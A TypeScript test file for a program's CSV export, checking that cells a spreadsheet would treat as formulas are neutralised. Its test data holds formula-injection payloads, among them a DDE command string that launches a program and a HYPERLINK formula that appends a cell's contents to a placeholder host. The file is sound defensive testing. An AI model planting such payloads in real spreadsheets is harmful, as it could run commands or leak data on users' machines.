import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Table } from '../../src/exports/table';
import { csv } from '../../src/exports/csv';
import { EXPORTS, type ExportKind } from '../../src/exports/exports';
import { wholeComparison } from '../../src/exports/comparisonJson';
import { startRun } from '../../src/runs/client';
import { reviewOf } from '../support/review';
import { twoInOne } from '../support/sharedConcepts';
import { bareRows } from '../support/bareRows';
import { alignmentOf, comparisonOf, pair } from '../support/alignment';
import { folderTest } from '../support/temporaryFolder';

const FORMULAS = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\tx', '\rx', '\nx', '  =1', '"=1"', '\ufeff=1', '\0=1'],
  ...[
    '＝1',
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    'x;=1+1',
    'x\n=1',
    'x\r\n  @1',
    'x\t-1',
    'x;";=1',
  ],
];
const HARMLESS = ['cat', 'a-b', 'a=b', 'x; y', "it's", 'mae/block_6', '1', 'x "=1"', '', ' x', '(=1)', '名'];

/** Whether a spreadsheet would take a text for a formula, in cells parted by semicolons, tabs or lines as well. */
function isFormula(text: string): boolean {
  const begins = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u;
  return /^[\t\r\n]/.test(text) || text.split(/[;\t\r\n]/).some((part) => begins.test(part));
}

test('a text that a spreadsheet would take for a formula gets an apostrophe, in quotation marks', () => {
  for (const text of FORMULAS) {
    assert.ok(isFormula(text), JSON.stringify(text));
    const written = csv([[text]]);
    assert.match(written, /^"[^]*"\r\n$/, JSON.stringify(text));
    const [[read]] = parse(written);
    assert.ok(!isFormula(read), JSON.stringify([text, read]));
    assert.equal(read.replaceAll("'", ''), text.replaceAll("'", ''), 'apostrophes are all that was added');
  }
  for (const text of HARMLESS) assert.deepEqual(parse(csv([[text, 'x']])), [[text, 'x']]);
});

test('numbers stay numbers, also negative ones, and no two texts become the same', () => {
  assert.equal(csv([[-1, 0.5, -1e-7, null, 1e300]]), '-1,0.5,-1e-7,,1e+300\r\n');
  const apostrophes = FORMULAS.flatMap((text) => [text, `'${text}`, `''${text}`]);
  assert.equal(new Set(apostrophes.map((text) => csv([[text]]))).size, new Set(apostrophes).size);
});

test('a text of a million blanks, quotation marks or semicolons takes no time', () => {
  for (const blank of [' ', '"', '\n', ';', '\t', "'", '=']) {
    const before = process.cpuUsage();
    csv([[blank.repeat(1e6)]]);
    const { user, system } = process.cpuUsage(before);
    assert.ok(user + system < 2e6, JSON.stringify(blank));
  }
});

const LABEL = '=HYPERLINK("http://x"&A1)';

/** A comparison and a review in which all names are formulas. */
function sourceOf(kind: ExportKind): unknown {
  if (kind.startsWith('review')) return reviewOf(LABEL);
  const view = comparisonOf(alignmentOf(2, 1, [pair(1, 0, 0.1, 'universal')]), [0.3, 0.1], [-0.2, 0.5]);
  view.shared = twoInOne();
  for (const side of [view.a, view.b]) {
    side.id = LABEL;
    for (const concept of side.concepts) Object.assign(concept, { name: LABEL, majorityLabel: LABEL });
  }
  if (kind !== 'rows') return view;
  const known = {
    ...bareRows(Uint32Array.of(0, 1).buffer),
    attributes: [{ name: LABEL, values: [LABEL], codes: Uint32Array.of(0, 0).buffer }],
  };
  const scores = { labels: Int32Array.of(0, -1).buffer, proximity: new Float32Array(2).buffer };
  return { view, rows: { columns: known, a: scores, b: scores } };
}

const TABLES = Object.entries(EXPORTS).filter(([, { extension }]) => extension === 'csv');

/** Its lines are the definitions that this program knows. */
const WITHOUT_NAMES = 'reviewDefinitions';

for (const [kind, { make }] of TABLES) {
  test(`the table ${kind} holds no formula`, () => {
    const written = csv((make as (of: unknown) => Table)(sourceOf(kind as ExportKind)));
    const isNamed = written.includes(`"'${LABEL.replaceAll('"', '""')}"`);
    assert.equal(isNamed, kind !== WITHOUT_NAMES, 'the names are in the table');
    for (const cell of parse(written).flat()) {
      assert.ok(!isFormula(cell) || Number.isFinite(Number(cell)), cell);
    }
  });
}

test('every table is written by the one function, and is in the list', () => {
  const sources = (folder: string): string[] =>
    readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.ts'))
      .map((file) => join(folder, file));
  const makers = sources(join('src', 'exports')).flatMap((file) =>
    [...readFileSync(file, 'utf8').matchAll(/export function (\w+Table|csv)\(/g)].map(([, name]) => name),
  );
  const listed = TABLES.map(([, { make }]) => make.name);
  assert.deepEqual(makers.sort(), ['csv', ...listed].sort());
  // Cells joined by commas are a table that is written past it.
  const joining = [...sources('src'), ...sources('webview')].filter((file) =>
    /join\((['"`])(?:,|\\t|;)\1\)[^]{0,40}\\r?\\n/.test(readFileSync(file, 'utf8')),
  );
  assert.deepEqual(joining, [join('src', 'exports', 'csv.ts')]);
});

test('JSON has the exact texts', () => {
  const { conceptsOfA } = wholeComparison(sourceOf('comparison') as never) as {
    conceptsOfA: { name: string }[];
  };
  assert.equal(conceptsOfA[0].name, LABEL);
});

folderTest('files are made and written off the thread that asks', async (folder) => {
  const file = join(folder, 'pairs.csv');
  const of = sourceOf('pairs') as never;
  await startRun(
    { kind: 'exportFile', ask: { file, what: 'pairs', of }, threads: 1, cache: null },
    { distFolder: resolve('dist') },
  ).result;
  assert.equal(readFileSync(file, 'utf8'), csv(EXPORTS.pairs.make(of)));
});
